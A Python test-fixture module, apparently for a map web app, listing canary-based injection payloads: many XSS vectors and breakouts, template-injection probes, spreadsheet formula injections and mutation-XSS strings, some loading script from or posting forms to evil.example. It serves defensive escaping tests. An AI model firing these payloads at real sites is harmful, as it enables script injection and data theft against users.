"""Texts that would run or break something if a page took them for more than text.

Each is a way into a place where a text can stand. What runs calls ``ran()``, opens a dialog or asks
for ``/xss-canary``; templates that compute would show 13371337.
"""

import re
from collections.abc import Iterable

from mapapp.domain.core.web_links import linked_parts

CANARY = "/xss-canary"
COMPUTED = re.compile(r"(?<!\d)13371337(?!\d)")
"""What a template that computes would show; codes of conditions are longer numbers."""

VECTORS = (
    "<script>ran()</script>",
    f"<script src={CANARY}></script>",
    "<img src=x onerror=ran()>",
    f"<img src={CANARY}>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x>",
    "<math><mi xlink:href=javascript:ran()>a",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<a href=javascript:ran()>a</a>",
    "<iframe src=javascript:ran()>",
    "<iframe srcdoc='<script>top.ran()</script>'>",
)
"""What runs by itself, or when it is pressed."""

WAYS_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</textarea>{}",
    "</title>{}",
    "</style>{}",
    "</bdi></p>{}",
    "-->{}",
    "]]>{}",
)
"""What would end the place where the text stands: an element, a value, a comment."""

ELEMENTS = (
    "<body onload=ran()>",
    "<body onpageshow=ran()>",
    "<video src=x onerror=ran()>",
    "<audio src onerror=ran()>",
    "<video><source onerror=ran()>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<p style=animation-name:x onanimationstart=ran()>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=ran()>",
    f"<style>@import '{CANARY}';</style>",
    f"<style>*{{background:url({CANARY})}}</style>",
    f"<link rel=stylesheet href={CANARY}>",
    f"<link rel=prefetch href={CANARY}>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    f"<meta http-equiv=refresh content=0;url={CANARY}>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<button form=a formaction=javascript:ran()>go",
    "<marquee onstart=ran()>",
    "<select autofocus onfocus=ran()>",
    "<textarea autofocus onfocus=ran()>",
    "<div contenteditable autofocus onfocus=ran()>",
    "<xss id=x tabindex=1 onfocus=ran()></xss>",
    "<dialog open onclose=ran()><form method=dialog>",
    "<template><img src=x onerror=ran()></template>",
    "<noscript><img src=x onerror=ran()></noscript>",
    "<table><td background=x onload=ran()>",
    "<frameset onload=ran()>",
    "<iframe src=data:text/html,<script>top.ran()</script>>",
    "<iframe src=data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=>",
    "<object data=data:text/html,<script>top.ran()</script>>",
    "<svg><a xlink:href=javascript:ran()><text y=9>a</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=ran()>>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:ran()>",
    "<svg><image href=x onerror=ran()>",
    "<svg/onload=ran()//",
    "<svg\nonload=ran()>",
    "<svg\fonload=ran()>",
    "<SCRIPT>ran()</SCRIPT>",
    "<ScRiPt>ran()</sCrIpT >",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    "<script>ran()",
    "<script/src=//evil.example/a.js></script>",
    "<script>alert(1)</script>",
    "<script>eval(atob('cmFuKCk='))</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=ran()>",
    "<img src=x onerror=ran`1`>",
    "<img src=x onerror='ran&lpar;&rpar;'>",
    "<img src=x:x onerror=ran()//",
    "<img srcset=x onerror=ran()>",
    "<image src=x onerror=ran()>",
    "<x onclick=ran()>press",
    "<a href='jAvAsCrIpT:ran()'>a",
    "<a href='java\tscript:ran()'>a",
    "<a href='\x01javascript:ran()'>a",
    "<a href=&#106;avascript:ran()>a",
    "<a href=data:text/html,<script>ran()</script>>a",
    "<a href=vbscript:ran()>a",
    "<!--><img src=x onerror=ran()>",
    "<!--<img src='--><img src=x onerror=ran()>'>",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<?xml version='1.0'?><script>ran()</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<%= ran() %>",
)
"""Elements that run or fetch."""

VALUES = (
    '" onmouseover="ran()',
    '" autofocus onfocus="ran()',
    '" onfocus=ran() autofocus tabindex=1 x="',
    "' onmouseover='ran()",
    "' autofocus onfocus='ran()",
    " onmouseover=ran() ",
    "x onfocus=ran() autofocus",
    '" style="animation:x" onanimationstart="ran()',
    '" formaction="javascript:ran()',
    '" href="javascript:ran()',
    '" srcdoc="<script>top.ran()</script>',
    '"/><img/src=x onerror=ran()>',
    '`"><img src=x onerror=ran()>',
    '" data-leave="" data-suggest="//evil.example',
    '" id="map-numbers" type="application/json',
    "javascript:ran()",
    "javascript:ran()//https://x.example",
    "JavaScript:%0Aran()",
    "data:text/html,<script>ran()</script>",
    "//evil.example/a",
    'https://x.example/"onmouseover=ran()',
    "https://x.example/'onmouseover=ran()//",
    "https://x.example/<script>ran()</script>",
    'https://x.example/?a=1&b="><svg onload=ran()>',
    "https://javascript:ran()@x.example/ as a link",
    "http://x.example/%22%3E%3Csvg%20onload=ran()%3E and on",
    "[a](javascript:ran())",
    '![a](x "onerror=ran()")',
    "<https://x.example/onclick=ran()>",
)
"""What would end a value of an attribute, or be an address that runs."""

TEMPLATES = (
    "{{7*1910191}}",
    "{{ 7*1910191 }}",
    "{% for a in range(9) %}{{7*1910191}}{% endfor %}",
    "{%- raw -%}{{7*1910191}}{%- endraw -%}",
    "{{ config }}{{ request.application }}",
    "{{''.__class__.__mro__}}",
    "{# a comment #}",
    "${7*1910191}",
    "${ran()}",
    "`${ran()}`",
    "#{7*1910191}",
    "#{ran()}",
    "<%= 7*1910191 %>",
    "@(7*1910191)",
    "*{7*1910191}",
    "[[7*1910191]] {{{7*1910191}}}",
    "%(people)s %(name)s %s %d %",
    "{name} {n} {0} {code} {id}",
    "$(7*1910191) `id` ; id",
)
"""What engines for templates compute, on the server and in the browser."""

STRINGS = (
    "`+ran()+`",
    "');ran();//",
    '");ran();//',
    "';ran();//",
    '";ran();//',
    "\\');ran();//",
    '\\");ran();//',
    '"}];ran();//',
    '"},"people":[],"x":{"',
    "]};ran();[{",
    "*/ran();/*",
    "//\nran()//",
    "a\rb\nran()",
    "a\r\nX-Canary: 1\r\n\r\n<script>ran()</script>",
    "line\u2028ran()",
    "line\u2029ran()",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=ran()\\x3e",
    "\\74script\\76ran()\\74/script\\76",
    "\\u{3c}svg onload=ran()\\u{3e}",
    "a \\",
    "a \\\\",
    "a \\u",
    "a \\u00",
    "a \\x",
    "a \\x4",
    "a \\u{110000}",
    "a \\ud800 \\udfff",
    "a \\N{DIGIT ONE} \\777",
    "a \\0 %00 \\x00",
    "a \u2400 \ufffd",
    'a \'" `" \'` \\"',
    "__proto__ constructor toString",
    "null undefined NaN true",
    "</ScRiPt ><sVg oNLoad=ran()>",
    "<!--<script>ran()</script>",
    "<!--<script><!--",
    '"><!--',
)
"""What would end a string of a script or a JSON text, or is a broken one."""

ENCODED = (
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#x3c;img src=x onerror=ran()&#x3e;",
    "&#60;svg onload=ran()&#62;",
    "&amp;lt;b&amp;gt;",
    "&quot; onmouseover=&quot;ran()",
    "&#0; &#x110000; &unknown; &lt",
    "%3Cscript%3Eran()%3C/script%3E",
    "%253Cscript%253Eran()%253C/script%253E",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u02c2script\u02c3ran()",
    "\u2039script\u203aran()",
    "a\x7fb\x0bc\x1fd",
    "\ufeff<script>ran()</script>",
    "<scr\u200bipt>ran()</script>",
    "<scr\u00adipt>ran()</script>",
    "\u202e>tpircs/<)(nar>tpircs<",
    "\u2066<img src=x onerror=ran()>\u2069",
    "a\u200f\u200eb\u061cc",
    "Z" + "\u0300\u0316\u0321\u0489" * 6 + "a",
    "\U000e0041\U000e0042 tags",
    "\U0001f469\u200d\U0001f52c \U0001f3f4",
    "=1+1|cmd '/C calc'!A0",
    "+7*1910191",
    "-7*1910191 a",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","a")',
    "\uff1d7*1910191 a",
    "%0aSubject: a",
)
"""What a later program might decode, reorder or compute."""

MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;svg onload=ran()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
    '<svg><style><img title="</style><img src=x onerror=ran()>">',
    '<select><template><style><a title="</style></template></select><img src=x onerror=ran()>">',
    '<title><a title="</title><img src=x onerror=ran()>">',
    '<textarea><a title="</textarea><img src=x onerror=ran()>">',
    '<xmp><p title="</xmp><svg/onload=ran()>">',
    '<iframe><p title="</iframe><img src=x onerror=ran()>">',
    '<noembed><p title="</noembed><img src=x onerror=ran()>">',
    "<plaintext><img src=x onerror=ran()>",
    '<a title="<!--"><img src=x onerror=ran()>--></a>',
    "<option><style></option></select><img src=x onerror=ran()></style>",
    "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
    '<p id="</p><img src=x onerror=ran()>',
)
"""What changes its meaning when a browser reads what it has written itself."""


def _out() -> Iterable[str]:
    """Yield the vectors, then every way out with some of them."""
    yield from VECTORS
    for number, way in enumerate(WAYS_OUT[1:]):
        for step in range(4):
            yield way.format(VECTORS[(number + step * 3) % len(VECTORS)])


_ALL = (*_out(), *ELEMENTS, *VALUES, *TEMPLATES, *STRINGS, *ENCODED, *MUTATIONS)
PAYLOADS = tuple(dict.fromkeys(_ALL))
EVERYTHING = " ".join(PAYLOADS)


def harmless(text: str) -> str:
    """Return a text of the same shape: as many words, paragraphs and addresses, of one letter."""
    found = ""
    for piece in linked_parts(text):
        words, link = re.sub(r"\S", "w", piece.text), "http://".ljust(len(piece.text), "w")
        found += words if piece.number is None else link
    return found


def packed(texts: Iterable[str], longest: int) -> list[str]:
    """Return the texts joined by spaces, none longer than ``longest`` characters."""
    found: list[str] = []
    for text in texts:
        if found and len(found[-1]) + 1 + len(text) <= longest:
            found[-1] += " " + text
        else:
            found.append(text[:longest])
    return found
